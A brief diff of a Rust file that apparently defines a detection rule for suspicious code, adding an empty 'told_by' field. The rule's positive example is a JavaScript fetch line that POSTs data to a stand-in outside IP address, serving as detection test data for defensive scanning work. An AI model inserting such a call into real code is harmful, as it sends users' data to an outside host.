@@ -17,6 +17,7 @@ pub(super) const BEHAVIOUR: Behaviour = Behaviour {
     variables: &[],
     texts: &[],
     hosts: &[],
+    told_by: &[],
     pass: Pass::Endpoints,
     positive: &[
         Example::js("fetch('http://203.0.113.7:8080/report', { method: 'POST', body });"),
